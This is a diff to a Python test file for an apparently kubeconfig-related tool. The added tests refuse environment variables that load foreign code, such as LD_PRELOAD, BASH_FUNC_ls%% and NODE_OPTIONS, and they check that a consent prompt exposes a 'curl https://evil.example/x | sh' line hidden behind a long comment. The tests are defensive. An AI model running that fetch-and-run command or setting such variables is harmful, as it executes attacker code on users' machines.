@@ -264,6 +264,7 @@ def test_the_id_of_a_server_is_the_same_for_each_way_to_write_it(tmp_path: Path)
         ({"command": "./no-such-program"}, "is not there"),
         ({"args": "text"}, "args that are no texts"),
         ({"env": [{"name": "LD_PRELOAD", "value": "x.so"}]}, "loads other code"),
+        ({"env": [{"name": "BASH_FUNC_ls%%", "value": "() { :; }"}]}, "loads other code"),
         ({"env": [{"value": "x"}]}, "no list of names and values"),
     ],
 )
@@ -296,6 +297,51 @@ def test_a_relative_program_is_beside_the_kubeconfig(tmp_path: Path) -> None:
     program.chmod(0o700)
     context = context_of(tmp_path, user={"exec": EXEC | {"command": "bin/login"}})
     assert read_block(read_user(context), context).program == str(program)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        *("BASH_ENV", "ENV", "PATH", "PYTHONPATH", "PYTHONSTARTUP"),
+        *("NODE_OPTIONS", "PERL5OPT", "RUBYOPT"),
+    ],
+)
+def test_a_variable_that_brings_other_code_is_refused(tmp_path: Path, name: str) -> None:
+    block = EXEC | {"env": [{"name": name, "value": "/tmp/other"}]}
+    context = context_of(tmp_path, user={"exec": block})
+    with pytest.raises(NotSignedIn, match=f"sets {name}, which loads other code"):
+        read_block(read_user(context), context)
+
+
+def consent(folder: Path, change: dict[str, Any]) -> NotSignedIn:
+    """Give what is said when consent is asked for."""
+    context = context_of(folder, user={"exec": EXEC | change})
+    user = read_user(context)
+    with pytest.raises(NotSignedIn) as caught:
+        check_agreed(read_block(user, context), user, "")
+    return caught.value
+
+
+def test_consent_shows_the_end_of_long_words(tmp_path: Path) -> None:
+    """A comment of 200 characters would hide what the shell then runs."""
+    script = "# " + "get-token --cluster shop " * 20 + "\ncurl https://evil.example/x | sh"
+    names = [f"{letter * 60}" for letter in "ABC"]
+    env = [{"name": name, "value": "x"} for name in names]
+    said = consent(tmp_path, {"args": ["-c", script, "two words"], "env": env}).sentence
+    assert r"shop \ncurl https://evil.example/x | sh" in said, "the line end is seen"
+    assert '"two words"' in said, "one argument is not two"
+    assert all(name in said for name in names)
+
+
+def test_what_is_too_long_to_show_cannot_be_agreed_to(tmp_path: Path) -> None:
+    context = context_of(tmp_path, user={"exec": EXEC | {"args": ["x" * 2001]}})
+    user = read_user(context)
+    told = consent(tmp_path, {"args": ["x" * 2001]})
+    assert "more words than the 2000 characters that can be shown" in told.message
+    assert "exec_allowed" not in told.sentence
+    block = read_block(user, context)
+    with pytest.raises(NotSignedIn, match="2000 characters"):
+        check_agreed(block, user, block.mark)
 
 
 def test_consent_is_for_exactly_one_program(
